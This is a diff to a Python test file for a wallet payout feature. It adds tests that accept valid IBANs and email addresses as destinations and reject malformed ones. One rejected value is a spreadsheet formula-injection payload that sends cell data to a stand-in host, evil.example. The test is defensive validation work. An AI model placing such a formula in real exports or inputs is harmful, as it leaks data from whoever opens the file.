@@ -42,6 +42,47 @@ def test_a_destination_is_masked_to_its_last_four_characters() -> None:
     assert wallet.mask("ada@example.org") == "•••• .org"
 
 
+@pytest.mark.parametrize(
+    "destination",
+    [
+        "DE89 3704 0044 0532 0130 00",
+        "GB82WEST12345698765432",
+        "ada@example.org",
+    ],
+)
+def test_an_iban_or_an_email_address_is_a_destination(inst: Instance, destination: str) -> None:
+    customer_id = make_customer(inst)
+    _earn(inst, customer_id, 900)
+    with inst.sessions() as session:
+        payout = wallet.request_payout(
+            session, inst, customer_id, wallet.PayoutInput("5", destination), CTX
+        )
+    assert payout.amount_cents == 500
+
+
+@pytest.mark.parametrize(
+    "destination",
+    [
+        '=HYPERLINK("https://evil.example/?"&A2,"DE89")',
+        "DE88 3704 0044 0532 0130 00",  # the checksum is wrong
+        "DE89-3704-0044-0532-0130-00",
+        "DE89 3704",
+        "paypal ada@example.org",
+        "ada@@example.org",
+        "ada@example",
+        "+1 555 0100 123",
+    ],
+)
+def test_anything_else_is_refused_with_a_field_error(inst: Instance, destination: str) -> None:
+    customer_id = make_customer(inst)
+    _earn(inst, customer_id, 900)
+    with inst.sessions() as session, pytest.raises(ValidationFailed) as refused:
+        wallet.request_payout(session, inst, customer_id, wallet.PayoutInput("5", destination), CTX)
+    assert refused.value.errors["destination"] == wallet.DESTINATION_ERROR
+    with inst.sessions() as session:
+        assert wallet.pending_cents(session, customer_id) == 0
+
+
 def _earn(inst: Instance, customer_id: str, cents: int) -> None:
     with inst.sessions() as session:
         platform = rewards.account(session, *rewards.PLATFORM)
@@ -61,7 +102,7 @@ def test_two_requests_racing_for_the_balance_pay_it_once(inst: Instance) -> None
             start.wait()
             try:
                 wallet.request_payout(
-                    session, inst, customer_id, wallet.PayoutInput("9", "paypal ada@x.org"), CTX
+                    session, inst, customer_id, wallet.PayoutInput("9", "ada@example.org"), CTX
                 )
                 outcomes.append("paid")
             except ValidationFailed as exc:
@@ -84,17 +125,17 @@ def test_settling_moves_pending_to_paid_out_and_keeps_the_ledger_balanced(inst: 
     _earn(inst, customer_id, 2000)
     with inst.sessions() as session:
         wallet.request_payout(
-            session, inst, customer_id, wallet.PayoutInput("6", "IBAN X1234"), CTX
+            session, inst, customer_id, wallet.PayoutInput("6", "DE89 3704 0044 0532 0130 00"), CTX
         )
     with inst.sessions() as session:
         wallet.request_payout(
-            session, inst, customer_id, wallet.PayoutInput("7", "IBAN Y5678"), CTX
+            session, inst, customer_id, wallet.PayoutInput("7", "GB82 WEST 1234 5698 7654 32"), CTX
         )
     with inst.sessions() as session:
         exported = wallet.export_payouts(session, inst, CTX)
     assert sorted((p.amount_cents, p.destination) for p in exported) == [
-        (600, "IBAN X1234"),
-        (700, "IBAN Y5678"),
+        (600, "DE89 3704 0044 0532 0130 00"),
+        (700, "GB82 WEST 1234 5698 7654 32"),
     ]
     with inst.sessions() as session:
         assert wallet.export_payouts(session, inst, CTX) == []
